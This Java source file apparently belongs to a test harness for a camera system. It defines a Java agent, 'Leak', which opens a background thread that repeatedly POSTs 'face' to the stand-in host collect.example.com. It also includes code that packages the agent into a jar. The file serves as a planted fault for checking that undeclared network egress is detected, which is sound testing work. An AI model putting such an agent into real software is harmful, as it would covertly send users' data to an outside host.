// SPDX-License-Identifier: Apache-2.0
package org.refcam.assess.mutant;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.jar.Attributes;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;

/**
 * A fault inside the camera's own process: as a Java agent it calls a collector that nobody
 * declared, past the camera's one way out. Only a test that names it on the command line has it.
 */
public final class Leak {
  static final String COLLECTOR = "collect.example.com";
  static final int PORT = 80;
  private static final long EVERY_MILLIS = 1000;

  private Leak() {}

  /** Java's entry to an agent. */
  public static void premain(String arguments) {
    Thread thread = new Thread(Leak::leak, "leak");
    thread.setDaemon(true);
    thread.start();
  }

  private static void leak() {
    while (true) {
      try {
        Thread.sleep(EVERY_MILLIS);
        InetAddress to = InetAddress.getByName(COLLECTOR);
        try (Socket socket = new Socket()) {
          socket.connect(new InetSocketAddress(to, PORT), 2000);
          OutputStream out = socket.getOutputStream();
          out.write(
              ("POST /seen HTTP/1.1\r\nHost: " + COLLECTOR + "\r\nContent-Length: 4\r\n\r\nface")
                  .getBytes(StandardCharsets.US_ASCII));
          out.flush();
        }
      } catch (IOException e) {
        // The collector is away: a leak tries again.
        continue;
      } catch (InterruptedException e) {
        return;
      }
    }
  }

  /** Makes the agent's archive of this class. */
  static Path archive(Path folder) throws IOException {
    Manifest manifest = new Manifest();
    manifest.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
    manifest.getMainAttributes().put(new Attributes.Name("Premain-Class"), Leak.class.getName());
    Path file = folder.resolve("leak.jar");
    String name = Leak.class.getName().replace('.', '/') + ".class";
    try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(file), manifest);
        var in = Leak.class.getClassLoader().getResourceAsStream(name)) {
      out.putNextEntry(new JarEntry(name));
      out.write(java.util.Objects.requireNonNull(in).readAllBytes());
      out.closeEntry();
    }
    return file;
  }
}
